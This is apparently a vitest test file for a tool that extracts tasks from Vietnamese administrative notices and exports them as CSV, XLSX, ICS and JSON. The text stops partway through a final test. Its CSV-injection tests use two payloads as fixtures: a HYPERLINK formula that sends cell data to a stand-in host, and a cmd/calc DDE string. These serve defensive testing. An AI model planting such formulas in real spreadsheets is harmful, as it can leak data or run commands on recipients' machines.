/**
 * tasks/: collecting directives, deadlines, filters and order, and every
 * export read back with a real reader (csv-parse, exceljs, ical.js, JSON).
 */
import { readdirSync, readFileSync } from 'node:fs';
import { unzipSync } from 'fflate';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import ICAL from 'ical.js';
import { isMap, isPair, isScalar, parseDocument as parseYaml, visit } from 'yaml';
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare } from '../src/build/pipeline.ts';
import { loadProject, type Project } from '../src/build/project.ts';
import type { Doc } from '../src/ir.ts';
import {
  collectTasks,
  exporters,
  filterTasks,
  isOverdue,
  parseState,
  renderReport,
  reportView,
  sortTasks,
  tasksToTable,
  taskStates,
  type Task,
} from '../src/tasks/index.ts';
import { csvField, neutralizeFormula } from '../src/tasks/csv.ts';
import { escapeText, foldLine, taskUid } from '../src/tasks/ics.ts';
import { summarize } from '../src/tasks/text.ts';
import { sheetName } from '../src/tasks/xlsx.ts';
import { latestSignedBy, reportSigner, reportSymbol, type SignedNotice } from '../src/tasks/report.ts';
import type { Signature } from '../src/conclusion.ts';

const root = new URL('..', import.meta.url).pathname;
const examples = ['conclusions/2019/nam-dinh-2019-pci-par.yaml', 'conclusions/2023/bac-son-2023-par-ddci.yaml'];

/** A notice made for these tests: every deadline kind, references, marks, quotes, a leap February. */
const fixture = `issuer: ubnd-bac-son
number: 7
issued: 2024-01-10
meeting:
  kind: cuộc họp
  date: 2024-01-08
  subject: về cải cách hành chính
  chair: { title: Chủ tịch UBND huyện }
indices:
  - id: PCI
    name: Chỉ số năng lực cạnh tranh cấp tỉnh
    year: 2023
    score: 63.01
    rank: 35
    units: 63
    unitsLabel: tỉnh, thành phố
body:
  - Đoạn mở đầu, không phải nhiệm vụ.
  - agency: Phòng Nội vụ
    content:
      - text: 'Báo cáo **kết quả** Chỉ số PCI ([[PCI]]) *đúng hạn*, hoàn thành [[deadline]].'
        deadline: 2024-02
      - text: 'Hoàn thành "Kế hoạch, đề án" [[deadline]].'
        deadline: 2024-Q1
        status: { state: đang thực hiện }
      - text: Theo dõi, đôn đốc việc thực hiện.
        deadline: thường xuyên
      - text: Tổng kết việc đã làm xong.
        deadline: 2024-01-20
        status: { state: hoàn thành, completed: 2024-01-25, report: Báo cáo số 3/BC-PNV }
      - text: Ghi nhận ý kiến, không có thời hạn.
  - item: Phòng Tài chính - Kế hoạch nộp báo cáo quý [[deadline]].
    lead: Phòng Tài chính - Kế hoạch
    support: [Phòng Nội vụ, Văn phòng HĐND và UBND huyện]
    deadline: 2024-Q4
  - text: Tổng hợp chung, báo cáo [[deadline]].
    deadline: 2024-06-30
recipients: [Như trên]
archive: [VT]
signature: { authority: TL, for: Chủ tịch, signer: vu-quang-hien }
`;

let project: Project;
beforeAll(() => {
  project = loadProject(root).value!;
});

function prepared(file: string, text: string) {
  const result = prepare(file, new TextEncoder().encode(text), project, { fonts: null });
  expect(result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
  return result;
}

const tasksOf = (file: string, text: string): Task[] => collectTasks(prepared(file, text).conclusion!, project.templates);
const fixtureTasks = () => tasksOf('conclusions/2024/fixture.yaml', fixture);
const exampleTasks = () => examples.flatMap((f) => tasksOf(f, readFileSync(`${root}/${f}`, 'utf8')));

/** Every paragraph and table cell of a Doc as plain text. */
function docTexts(doc: Doc): string[] {
  const runs = (rs: readonly { text: string }[]) => rs.map((r) => r.text).join('');
  return doc.body.flatMap((b) => (b.type === 'paragraph' || b.type === 'heading' ? [runs(b.runs)] : b.type === 'table' ? b.rows.flatMap((r) => r.map((c) => runs(c.runs))) : []));
}

describe('collecting directives', () => {
  it('finds every node with a directive, in document order, with stable ids', () => {
    const tasks = fixtureTasks();
    expect(tasks.map((t) => t.id)).toEqual([
      'conclusions/2024/fixture.yaml#body.1.content.0',
      'conclusions/2024/fixture.yaml#body.1.content.1',
      'conclusions/2024/fixture.yaml#body.1.content.2',
      'conclusions/2024/fixture.yaml#body.1.content.3',
      'conclusions/2024/fixture.yaml#body.1.content.4',
      'conclusions/2024/fixture.yaml#body.2',
      'conclusions/2024/fixture.yaml#body.3',
    ]);
    expect(tasks[6].lead).toEqual([]);
    expect(tasks[0].lead).toEqual(['Phòng Nội vụ']);
    expect(tasks[5].support).toEqual(['Phòng Nội vụ', 'Văn phòng HĐND và UBND huyện']);
    expect(tasks[0].notice).toMatchObject({ number: '07', symbol: 'TB-UBND', issued: '2024-01-10', date: '2024-01-10', chair: 'Chủ tịch UBND huyện' });
  });

  it('words the text as the notice prints it: references resolved, ** and * dropped', () => {
    const [first] = fixtureTasks();
    expect(first.text).toBe(
      'Báo cáo kết quả Chỉ số PCI (đạt 63,01 điểm, xếp thứ 35/63 tỉnh, thành phố) đúng hạn, hoàn thành trong tháng 02/2024.',
    );
    expect(first.text).not.toMatch(/\*|\[\[|</);
  });

  it('gives, for every directive of every example, text found verbatim in the rendered notice', () => {
    for (const file of [...examples, 'conclusions/2024/fixture.yaml']) {
      const text = file.includes('fixture') ? fixture : readFileSync(`${root}/${file}`, 'utf8');
      const { conclusion, doc } = prepared(file, text);
      const paragraphs = docTexts(doc!);
      for (const task of collectTasks(conclusion!, project.templates)) {
        expect(paragraphs.some((p) => p.endsWith(task.text)), `${task.id}: ${task.text}`).toBe(true);
      }
    }
  });

  it('resolves months and quarters to their last day; free text has none', () => {
    const byId = Object.fromEntries(fixtureTasks().map((t) => [t.path.join('.'), t.deadline]));
    expect(byId['body.1.content.0']).toEqual({ kind: 'month', printed: 'trong tháng 02/2024', end: '2024-02-29' });
    expect(byId['body.1.content.1']).toEqual({ kind: 'quarter', printed: 'trong Quý I năm 2024', end: '2024-03-31' });
    expect(byId['body.1.content.2']).toEqual({ kind: 'text', printed: 'thường xuyên', end: null });
    expect(byId['body.1.content.3']).toEqual({ kind: 'date', printed: 'trước ngày 20/01/2024', end: '2024-01-20' });
    expect(byId['body.1.content.4']).toBeNull();
    expect(byId['body.2']).toEqual({ kind: 'quarter', printed: 'trong Quý IV năm 2024', end: '2024-12-31' });
    const april = exampleTasks().find((t) => t.id.endsWith('bac-son-2023-par-ddci.yaml#body.3.content.2'))!;
    expect(april.deadline).toEqual({ kind: 'month', printed: 'trong tháng 4 năm 2023', end: '2023-04-30' });
  });

  it('reads the follow-up status; a directive without one is "chưa thực hiện"', () => {
    const tasks = fixtureTasks();
    expect(tasks[1]).toMatchObject({ state: 'đang thực hiện', completed: null, report: null, statusGiven: true });
    expect(tasks[3]).toMatchObject({ state: 'hoàn thành', completed: '2024-01-25', report: 'Báo cáo số 3/BC-PNV', statusGiven: true });
    expect(tasks[0]).toMatchObject({ state: 'chưa thực hiện', statusGiven: false });
  });

  it('summarises to the first sentence, or all of a too-short one, within 100 characters', () => {
    expect(summarize('Đồng ý về nguyên tắc. Giao Bộ Công an chủ trì kết nối.')).toBe('Đồng ý về nguyên tắc. Giao Bộ Công an chủ trì kết nối');
    expect(summarize('Thủ tục hành chính... trên Cổng thông tin điện tử của tỉnh và các đơn vị trực thuộc; phần sau.')).toBe(
      'Thủ tục hành chính... trên Cổng thông tin điện tử của tỉnh và các đơn vị trực thuộc',
    );
    const long = summarize('Một '.repeat(60).trim() + '.');
    expect([...long].length).toBeLessThanOrEqual(100);
    expect(long.endsWith('…')).toBe(true);
  });
});

describe('status never changes the notice', () => {
  it.each(examples)('%s renders the same Doc with and without its status fields', (file) => {
    const text = readFileSync(`${root}/${file}`, 'utf8');
    const yaml = parseYaml(text);
    let removed = 0;
    visit(yaml, {
      Pair(_key, pair) {
        if (isPair(pair) && isScalar(pair.key) && pair.key.value === 'status' && isMap(pair.value)) {
          removed++;
          return visit.REMOVE;
        }
        return undefined;
      },
    });
    expect(removed).toBeGreaterThan(0);
    const withStatus = prepared(file, text).doc;
    const without = prepared(file, yaml.toString()).doc;
    expect(withStatus).toEqual(without);
  });
});

describe('overdue, filters and order', () => {
  const find = (tasks: Task[], path: string) => tasks.find((t) => t.path.join('.') === path)!;

  it('is overdue only after the last allowed day, unless done; free text and undated never', () => {
    const tasks = fixtureTasks();
    const month = find(tasks, 'body.1.content.0');
    expect(isOverdue(month, '2024-02-29')).toBe(false);
    expect(isOverdue(month, '2024-03-01')).toBe(true);
    expect(isOverdue(find(tasks, 'body.1.content.1'), '2024-04-01')).toBe(true);
    expect(isOverdue(find(tasks, 'body.1.content.2'), '2099-12-31')).toBe(false);
    expect(isOverdue(find(tasks, 'body.1.content.3'), '2099-12-31')).toBe(false);
    expect(isOverdue(find(tasks, 'body.1.content.4'), '2099-12-31')).toBe(false);
  });

  it('never marks "thường xuyên" overdue in the examples', () => {
    const ongoing = exampleTasks().filter((t) => t.deadline?.printed === 'thường xuyên');
    expect(ongoing.length).toBeGreaterThanOrEqual(4);
    expect(ongoing.some((t) => isOverdue(t, '2100-01-01'))).toBe(false);
    expect(filterTasks(ongoing, { overdue: true }, '2100-01-01')).toEqual([]);
  });

  it('filters by agency (accents and case ignored, lead or coordinating), due date, year and status', () => {
    const tasks = [...fixtureTasks(), ...exampleTasks()];
    const ids = (list: Task[]) => list.map((t) => `${t.notice.file.slice(12, 16)}:${t.path.join('.')}`);
    expect(ids(filterTasks(tasks, { agency: 'VAN PHONG HDND' }, '2024-01-01'))).toEqual(['2024:body.2', '2023:body.7.content.0']);
    expect(filterTasks(tasks, { agency: 'phòng tài chính' }, '2024-01-01').every((t) => [...t.lead, ...t.support].includes('Phòng Tài chính - Kế hoạch'))).toBe(true);
    expect(ids(filterTasks(tasks, { dueBefore: '2019-08-01' }, '2024-01-01'))).toEqual(['2019:body.2.content.1', '2019:body.2.content.3', '2019:body.3.content.0']);
    expect(filterTasks(tasks, { year: 2023 }, '2024-01-01').every((t) => t.notice.file.includes('bac-son'))).toBe(true);
    expect(ids(filterTasks(tasks, { status: 'hoàn thành' }, '2024-01-01'))).toEqual(['2024:body.1.content.3', '2019:body.2.content.1', '2023:body.3.content.0']);
    expect(parseState('Hoan Thanh', taskStates)).toBe('hoàn thành');
    expect(parseState('xong', taskStates)).toBeUndefined();
  });

  it('lists the examples overdue on 30/6/2023: past due and not done', () => {
    const overdue = sortTasks(filterTasks(exampleTasks(), { overdue: true }, '2023-06-30'));
    expect(overdue.map((t) => t.id)).toEqual([
      'conclusions/2019/nam-dinh-2019-pci-par.yaml#body.2.content.3',
      'conclusions/2019/nam-dinh-2019-pci-par.yaml#body.3.content.0',
      'conclusions/2023/bac-son-2023-par-ddci.yaml#body.3.content.2',
    ]);
    // On the month's last day the April task is still on time.
    expect(filterTasks(exampleTasks(), { overdue: true }, '2023-04-30').map((t) => t.id)).not.toContain('conclusions/2023/bac-son-2023-par-ddci.yaml#body.3.content.2');
  });

  it('sorts by last allowed day, then notice, then document order; ongoing, then undated, last', () => {
    const sorted = sortTasks([...fixtureTasks(), ...exampleTasks()]);
    const ranks = sorted.map((t) => (t.deadline === null ? 2 : t.deadline.end === null ? 1 : 0));
    expect(ranks).toEqual([...ranks].sort((a, b) => a - b));
    const dated = sorted.filter((t) => t.deadline?.end);
    expect(dated.map((t) => t.deadline!.end)).toEqual(dated.map((t) => t.deadline!.end).sort());
    expect(dated[0].id).toBe('conclusions/2019/nam-dinh-2019-pci-par.yaml#body.2.content.1');
    expect(sortTasks(sorted.slice().reverse())).toEqual(sorted);
  });
});

describe('terminal table', () => {
  it('prints a Vietnamese table with a legend of notices and the count', () => {
    const text = tasksToTable(sortTasks(exampleTasks()), 'vi', '2023-06-30');
    const lines = text.split('\n');
    expect(lines[0]).toMatch(/^STT\s+Hạn chót\s+Cơ quan chủ trì\s+Nhiệm vụ\s+Trạng thái\s+Thông báo$/);
    expect(text).toContain('95/TB-VP');
    expect(text).toContain('dự thảo');
    expect(text).toContain('QUÁ HẠN');
    expect(text).toContain('  95/TB-VP ngày 21/06/2019: conclusions/2019/nam-dinh-2019-pci-par.yaml');
    expect(text).toMatch(/Tổng cộng 27 nhiệm vụ: 2 hoàn thành, 3 quá hạn \(tính đến ngày 30\/06\/2023\)\.\n$/);
    expect(tasksToTable([], 'en', '2023-06-30')).toBe('No tasks.\n');
  });
});

const ctx = { lang: 'vi' as const, asOf: '2024-03-15', version: '0.0.0-test' };

describe('CSV export', () => {
  it('quotes only what must be quoted (RFC 4180)', () => {
    expect(csvField('a')).toBe('a');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField(' edge')).toBe('" edge"');
  });

  it('reads back with csv-parse: BOM, CRLF, header, one row per task, values intact', async () => {
    const tasks = sortTasks(fixtureTasks());
    const text = (await exporters.csv(tasks, ctx)) as string;
    expect(text.startsWith('\ufeff')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n(?![^"]*"[,\r])/); // every record ends with CRLF
    const rows: Record<string, string>[] = parseCsv(text, { bom: true, columns: true, relax_column_count: false });
    expect(rows).toHaveLength(tasks.length);
    expect(Object.keys(rows[0])).toEqual([
      'Thông báo',
      'Ngày thông báo',
      'Tệp',
      'Cơ quan chủ trì',
      'Cơ quan phối hợp',
      'Tóm tắt nhiệm vụ',
      'Nội dung nhiệm vụ',
      'Thời hạn (như trong thông báo)',
      'Hạn chót',
      'Trạng thái',
      'Ngày hoàn thành',
      'Văn bản báo cáo',
      'Quá hạn (tính đến 15/03/2024)',
      'Mã nhiệm vụ',
    ]);
    const quoted = rows.find((r) => r['Mã nhiệm vụ'].endsWith('#body.1.content.1'))!;
    expect(quoted['Nội dung nhiệm vụ']).toBe('Hoàn thành "Kế hoạch, đề án" trong Quý I năm 2024.');
    expect(quoted).toMatchObject({ 'Thông báo': '07/TB-UBND', 'Ngày thông báo': '2024-01-10', 'Hạn chót': '2024-03-31', 'Trạng thái': 'đang thực hiện', 'Quá hạn (tính đến 15/03/2024)': '' });
    const february = rows.find((r) => r['Mã nhiệm vụ'].endsWith('#body.1.content.0'))!;
    expect(february).toMatchObject({ 'Hạn chót': '2024-02-29', 'Quá hạn (tính đến 15/03/2024)': 'quá hạn' });
    const done = rows.find((r) => r['Mã nhiệm vụ'].endsWith('#body.1.content.3'))!;
    expect(done).toMatchObject({ 'Trạng thái': 'hoàn thành', 'Ngày hoàn thành': '2024-01-25', 'Văn bản báo cáo': 'Báo cáo số 3/BC-PNV' });
    const joint = rows.find((r) => r['Mã nhiệm vụ'].endsWith('#body.2'))!;
    expect(joint['Cơ quan phối hợp']).toBe('Phòng Nội vụ; Văn phòng HĐND và UBND huyện');
  });

  it('takes ";" as separator for decimal-comma Excel, quoting fields that hold it', async () => {
    const text = (await exporters.csv(sortTasks(fixtureTasks()), { ...ctx, csvDelimiter: ';' })) as string;
    expect(text.split('\r\n')[0].split(';')).toHaveLength(14);
    expect(text).toContain('"Phòng Nội vụ; Văn phòng HĐND và UBND huyện"');
    const rows: Record<string, string>[] = parseCsv(text, { bom: true, columns: true, delimiter: ';' });
    expect(rows).toHaveLength(7);
    expect(rows.find((r) => r['Mã nhiệm vụ'].endsWith('#body.2'))!['Cơ quan phối hợp']).toBe('Phòng Nội vụ; Văn phòng HĐND và UBND huyện');
    expect(csvField('a;b', ';')).toBe('"a;b"');
    expect(csvField('a,b', ';')).toBe('a,b');
  });

  it('writes English headers and states with --lang en', async () => {
    const rows: Record<string, string>[] = parseCsv((await exporters.csv(fixtureTasks(), { ...ctx, lang: 'en' })) as string, { bom: true, columns: true });
    expect(Object.keys(rows[0])[0]).toBe('Notice');
    expect(rows.map((r) => r.Status)).toContain('in progress');
  });
});

describe('XLSX export', () => {
  let bytes: Uint8Array;
  let book: ExcelJS.Workbook;
  beforeAll(async () => {
    bytes = (await exporters.xlsx(sortTasks([...fixtureTasks(), ...exampleTasks()]), ctx)) as Uint8Array;
    book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  });

  it('has a summary, an all-tasks sheet and one sheet per lead agency', () => {
    const names = book.worksheets.map((s) => s.name);
    expect(names.slice(0, 2)).toEqual(['Tổng hợp', 'Tất cả']);
    expect(names).toContain('Phòng Nội vụ');
    expect(names).toContain('Phòng Tài chính - Kế hoạch');
    expect(names).toContain('Chưa giao chủ trì');
    expect(names.every((n) => [...n].length <= 31 && !/[:\\/?*[\]]/.test(n))).toBe(true);
    expect(names.find((n) => n.startsWith('Trung tâm Văn hóa'))).toBe('Trung tâm Văn hóa, Thể thao và…');
    expect(book.getWorksheet('Tất cả')!.rowCount).toBe(1 + 7 + 27);
    expect(book.getWorksheet('Chưa giao chủ trì')!.rowCount).toBe(1 + 1);
    // A task with two lead agencies is on both their sheets.
    expect(book.getWorksheet('Phòng Văn hóa và Thông tin')!.rowCount).toBe(1 + 2);
  });

  it('freezes and filters the header row and sizes the columns', () => {
    for (const sheet of book.worksheets) {
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.autoFilter).toBeTruthy();
      expect(sheet.getRow(1).font?.bold).toBe(true);
    }
    const all = book.getWorksheet('Tất cả')!;
    expect(all.getRow(1).values).toContain('Hạn chót');
    expect(all.getColumn(7).width).toBe(90);
  });

  it('stores dates as real dates and counts per agency', () => {
    const sheet = book.getWorksheet('Phòng Nội vụ')!;
    const header = sheet.getRow(1).values as string[];
    const col = (name: string) => header.indexOf(name);
    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => String(r.getCell(col('Mã nhiệm vụ')).value).endsWith('fixture.yaml#body.1.content.0'))!;
    const due = row.getCell(col('Hạn chót'));
    expect(due.value).toBeInstanceOf(Date);
    expect((due.value as Date).toISOString()).toBe('2024-02-29T00:00:00.000Z');
    expect(due.numFmt).toBe('dd/mm/yyyy');
    expect(row.getCell(col('Ngày thông báo')).value).toEqual(new Date(Date.UTC(2024, 0, 10)));
    const summary = book.getWorksheet('Tổng hợp')!;
    const noiVu = summary.getRows(2, summary.rowCount - 1)!.find((r) => r.getCell(1).value === 'Phòng Nội vụ')!;
    // Fixture: 5 led (1 done, 1 in progress, 3 not started; February overdue on 15/3/2024; 2 ongoing or undated); Bắc Sơn: 2 more, ongoing or undated.
    expect(noiVu.values).toEqual([undefined, 'Phòng Nội vụ', 7, 1, 1, 5, 1, 4]);
    expect(summary.getRow(summary.rowCount).values).toEqual([undefined, 'Cộng', 34, 3, 3, 28, 4, 24]);
  });

  it('gives the same bytes twice, dated from the data', async () => {
    const again = (await exporters.xlsx(sortTasks([...fixtureTasks(), ...exampleTasks()]), ctx)) as Uint8Array;
    expect(Buffer.from(again).equals(Buffer.from(bytes))).toBe(true);
    expect(book.created.toISOString()).toBe('2024-03-15T00:00:00.000Z');
    expect(book.modified.toISOString()).toBe('2024-03-15T00:00:00.000Z');
  });

  it('names sheets legally and uniquely', () => {
    const taken = new Set<string>();
    expect(sheetName('A/B: [x]?', taken)).toBe('A-B- -x--');
    expect(sheetName('a/b: [x]?', taken)).toBe('a-b- -x-- (2)');
    const long = 'Trung tâm Văn hóa, Thể thao và Truyền thông huyện';
    expect(sheetName(long, taken)).toBe('Trung tâm Văn hóa, Thể thao và…');
    expect(sheetName(long, taken)).toBe('Trung tâm Văn hóa, Thể tha… (2)');
    expect(sheetName('History', taken)).toBe('History (2)');
    expect(sheetName(" 'Quote' ", taken)).toBe('Quote');
    expect(sheetName(`${'x'.repeat(29)}'yyy`, taken)).toBe(`${'x'.repeat(29)}…`);
    expect(sheetName('😀'.repeat(20), taken)).toBe(`${'😀'.repeat(15)}…`);
  });
});

/** The fixture with formula-looking texts and agencies whose names Excel refuses as sheet names. */
const hostile = fixture
  .replace("'Báo cáo **kết quả** Chỉ số PCI ([[PCI]]) *đúng hạn*, hoàn thành [[deadline]].'", '\'=HYPERLINK("http://x.invalid/?"&A1,"Bấm") [[deadline]].\'')
  .replace('Theo dõi, đôn đốc việc thực hiện.', '"@SUM(1+1)*cmd|\' /C calc\'!A0"')
  .replace('  - agency: Phòng Nội vụ\n', '  - agency: History\n')
  .replace('    lead: Phòng Tài chính - Kế hoạch\n', "    lead: [\"'Ban: chỉ đạo [x]?'\", 'Trung tâm Văn hóa, Thể thao và Truyền thông huyện A', 'Trung tâm Văn hóa, Thể thao và Truyền thông huyện B', history]\n");

describe('exports of text a spreadsheet would run (OWASP CSV injection)', () => {
  it('prefixes a quote to fields starting with = + - @, tab or CR, also after spaces; leaves the rest', () => {
    for (const v of ['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1', '  =1', '\u00a0=1', '＝1']) expect(neutralizeFormula(v)).toBe(`'${v}`);
    for (const v of ['', 'a=1', 'Phòng Nội vụ', '2024-02-29', "'quoted"]) expect(neutralizeFormula(v)).toBe(v);
  });

  it('CSV: formula-looking cells read back as text with the quote prefix', async () => {
    const text = (await exporters.csv(sortTasks(tasksOf('conclusions/2024/fixture.yaml', hostile)), ctx)) as string;
    const rows: Record<string, string>[] = parseCsv(text, { bom: true, columns: true });
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells).toContain(`'=HYPERLINK("http://x.invalid/?"&A1,"Bấm") trong tháng 02/2024.`);
    expect(cells.some((c) => c.startsWith("'@SUM(1+1)"))).toBe(true);
    expect(cells.filter((c) => /^[\s\u00a0]*[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('XLSX: the same texts are plain strings, never formulas', async () => {
    const bytes = (await exporters.xlsx(sortTasks(tasksOf('conclusions/2024/fixture.yaml', hostile)), ctx)) as Uint8Array;
    const parts = unzipSync(bytes);
    const sheets = Object.keys(parts).filter((p) => /^xl\/worksheets\/sheet\d+\.xml$/.test(p));
    expect(sheets.length).toBeGreaterThan(3);
    for (const p of sheets) expect(new TextDecoder().decode(parts[p])).not.toMatch(/<f[ >]/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
    const all = book.getWorksheet('Tất cả')!;
    const values = all.getRows(2, all.rowCount - 1)!.flatMap((r) => (r.values as unknown[]).slice(1));
    expect(values).toContain('=HYPERLINK("http://x.invalid/?"&A1,"Bấm") trong tháng 02/2024.');
  });

  it('XLSX: agencies named History, with [ ] : ? and quotes, or over 31 characters alike get legal, distinct sheets', async () => {
    const bytes = (await exporters.xlsx(sortTasks(tasksOf('conclusions/2024/fixture.yaml', hostile)), ctx)) as Uint8Array;
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
    const names = book.worksheets.map((s) => s.name);
    expect(names).toEqual(expect.arrayContaining(['history (2)', 'History (3)', 'Ban- chỉ đạo -x--', 'Trung tâm Văn hóa, Thể thao và…', 'Trung tâm Văn hóa, Thể tha… (2)']));
    expect(new Set(names.map((n) => n.toLowerCase())).size).toBe(names.length);
    expect(names.every((n) => n.length <= 31 && !/[:\\/?*[\]]|^'|'$/.test(n) && n.toLowerCase() !== 'history')).toBe(true);
  });
});

describe('ICS export', () => {
  const events = async (tasks: Task[]) => {
    const text = (await exporters.ics(tasks, ctx)) as string;
    return { text, events: new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent').map((e) => new ICAL.Event(e)) };
  };

  it('parses with ical.js: one all-day event per dated task, on the last allowed day', async () => {
    const tasks = sortTasks(fixtureTasks());
    const { events: list } = await events(tasks);
    expect(list).toHaveLength(5); // the ongoing and the undated task have no day
    const feb = list.find((e) => e.summary.includes('PCI'))!;
    expect(feb.startDate.isDate).toBe(true);
    expect(feb.startDate.toString()).toBe('2024-02-29');
    expect(feb.endDate.toString()).toBe('2024-03-01');
    expect(feb.summary).toBe(`Phòng Nội vụ: ${tasks.find((t) => t.deadline?.end === '2024-02-29')!.summary}`);
    expect(feb.summary.startsWith('Phòng Nội vụ: Báo cáo kết quả Chỉ số PCI (đạt 63,01 điểm')).toBe(true);
    expect(list.find((e) => e.startDate.toString() === '2024-06-30')!.summary).toBe('Tổng hợp chung, báo cáo trước ngày 30/6/2024');
    expect(feb.description).toContain('Thời hạn: trong tháng 02/2024');
    expect(feb.description).toContain('Thông báo: 07/TB-UBND ngày 10/01/2024 (conclusions/2024/fixture.yaml)');
    expect(feb.component.getFirstPropertyValue('dtstamp')!.toString()).toBe('2024-01-10T00:00:00Z');
    const done = list.find((e) => e.startDate.toString() === '2024-01-20')!;
    expect(done.summary.startsWith('(hoàn thành) Phòng Nội vụ: ')).toBe(true);
    expect(list.find((e) => e.startDate.toString() === '2024-12-31')!.description).toContain('Cơ quan phối hợp: Phòng Nội vụ; Văn phòng HĐND và UBND huyện');
  });

  it('keeps UIDs stable when the wording changes, distinct per directive', async () => {
    const before = (await events(fixtureTasks())).events.map((e) => e.uid);
    const edited = fixture.replace('Tổng kết việc đã làm xong.', 'Tổng kết, rút kinh nghiệm việc đã làm xong.').replace('deadline: 2024-Q1', 'deadline: 2024-05');
    const after = (await events(tasksOf('conclusions/2024/fixture.yaml', edited))).events.map((e) => e.uid);
    expect(after).toEqual(before);
    expect(new Set(before).size).toBe(before.length);
    expect(before.every((uid) => /^[0-9a-f]{32}@ketluan$/.test(uid))).toBe(true);
    expect(taskUid({ ...fixtureTasks()[0], notice: { ...fixtureTasks()[0].notice, file: 'conclusions\\2024\\fixture.yaml' } })).toBe(before[0]);
  });

  it('uses CRLF, folds lines at 75 octets between characters, escapes text', async () => {
    const { text } = await events(sortTasks(exampleTasks()));
    expect(text.endsWith('END:VCALENDAR\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    for (const line of text.split('\r\n')) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
    expect(text).toMatch(/\r\n [^ ]/); // folded lines exist and continue after one space
    expect(escapeText('a,b;c\\d\ne')).toBe('a\\,b\\;c\\\\d\\ne');
    const folded = foldLine('X'.repeat(70) + 'ệệệệ');
    expect(folded.split('\r\n').map((l) => Buffer.byteLength(l))).toEqual([73, 10]);
  });
});

describe('JSON export', () => {
  it('holds every field, states as in the archive, overdue at the as-of date', async () => {
    const data = JSON.parse((await exporters.json(sortTasks(fixtureTasks()), ctx)) as string);
    expect(data.version).toBe(1);
    expect(data.asOf).toBe('2024-03-15');
    expect(data.tasks[0]).toEqual({
      id: 'conclusions/2024/fixture.yaml#body.1.content.3',
      notice: { file: 'conclusions/2024/fixture.yaml', reference: '07/TB-UBND', number: '07', symbol: 'TB-UBND', issued: '2024-01-10', date: '2024-01-10', issuer: 'ubnd-bac-son' },
      path: ['body', 1, 'content', 3],
      lead: ['Phòng Nội vụ'],
      support: [],
      summary: 'Tổng kết việc đã làm xong',
      text: 'Tổng kết việc đã làm xong.',
      deadline: { kind: 'date', printed: 'trước ngày 20/01/2024', end: '2024-01-20', ongoing: false },
      status: { state: 'hoàn thành', completed: '2024-01-25', report: 'Báo cáo số 3/BC-PNV', given: true },
      overdue: false,
    });
    expect(data.tasks.map((t: { overdue: boolean }) => t.overdue)).toEqual([false, true, false, false, false, false, false]);
  });
});

describe('follow-up report', () => {
  it('renders in the ND30 frame: BC symbol, blank number, title, counts, task table, signature', () => {
    const tasks = sortTasks(fixtureTasks());
    const doc = renderReport(tasks, { issuer: tasks[0].notice.issuer, asOf: '2024-03-15', signer: { name: 'Vũ Quang Hiến', title: 'Chánh Văn phòng' } }, project.templates);
    expect(doc.header.org).toEqual(['ỦY BAN NHÂN DÂN', 'HUYỆN BẮC SƠN']);
    expect(doc.header.numberLine).toBe('Số: \u00a0\u00a0\u00a0\u00a0\u00a0\u00a0/BC-UBND');
    expect(doc.title.kind).toBe('BÁO CÁO');
    expect(doc.title.summary).toEqual(['Tình hình thực hiện các nhiệm vụ tại Thông báo kết luận', '(tính đến ngày 15 tháng 3 năm 2024)']);
    const texts = docTexts(doc);
    expect(texts).toContain('Tổng số 7 nhiệm vụ, trong đó: 1 nhiệm vụ đã hoàn thành; 1 nhiệm vụ đang thực hiện; 5 nhiệm vụ chưa thực hiện; 2 nhiệm vụ thực hiện thường xuyên hoặc không ghi thời hạn.');
    expect(texts).toContain('Số nhiệm vụ quá hạn chưa hoàn thành: 1 nhiệm vụ.');
    const table = doc.body.find((b) => b.type === 'table')!;
    if (table.type !== 'table') throw new Error('no table');
    expect(table.rows).toHaveLength(1 + 7);
    const cells = (r: number) => table.rows[r].map((c) => c.runs.map((x) => x.text).join(''));
    expect(cells(0)).toEqual(['TT', 'Nội dung nhiệm vụ', 'Văn bản giao', 'Cơ quan chủ trì', 'Thời hạn', 'Kết quả thực hiện']);
    expect(cells(1)).toEqual(['1', 'Tổng kết việc đã làm xong.', '07/TB-UBND ngày 10/01/2024', 'Phòng Nội vụ', 'trước ngày 20/01/2024', 'Đã hoàn thành ngày 25/01/2024 (Báo cáo số 3/BC-PNV)']);
    expect(cells(2)[5]).toBe('Chưa thực hiện; quá hạn');
    expect(doc.recipients.lines).toEqual(['- Chủ tịch UBND huyện (b/c);', '- Lưu: VT.']);
    expect(doc.signature).toMatchObject({ lines: ['CHÁNH VĂN PHÒNG'], name: 'Vũ Quang Hiến' });
    expect(doc.meta).toMatchObject({ keywords: '/BC-UBND', issuedOn: '2024-03-15', language: 'vi-VN' });
    // No signing date: the place-date line is the draft's blank one, as a notice without "issued" prints it.
    expect(doc.header.placeDate).toBe(`Bắc Sơn, ngày ${'\u00a0'.repeat(4)} tháng ${'\u00a0'.repeat(4)} năm ${'\u00a0'.repeat(6)}`);
  });

  it.each([
    ['2023-07-05', 'Bắc Sơn, ngày 05 tháng 7 năm 2023'],
    ['2024-01-09', 'Bắc Sơn, ngày 09 tháng 01 năm 2024'],
    ['2024-02-29', 'Bắc Sơn, ngày 29 tháng 02 năm 2024'],
    ['2024-12-31', 'Bắc Sơn, ngày 31 tháng 12 năm 2024'],
